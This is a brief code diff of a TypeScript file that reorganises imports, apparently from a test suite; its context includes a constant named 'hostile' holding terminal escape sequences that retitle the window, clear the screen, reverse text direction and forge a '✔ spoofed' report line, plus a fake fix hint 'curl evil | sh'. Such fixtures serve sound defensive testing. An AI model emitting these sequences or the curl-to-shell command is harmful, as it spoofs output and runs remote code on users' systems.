@@ -1,5 +1,6 @@
 import { config, rootToken, Site } from "../operate/site";
-import { Checkout, type Ran } from "./checkout";
+import { Checkout } from "./checkout";
+import type { Ran } from "./ran";
 
 /** Sets the window's title, clears the screen, colours by 8 bits, turns the direction, and forges lines of a report. */
 const hostile = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\r\n✔ spoofed\n    fix: curl evil | sh\n";
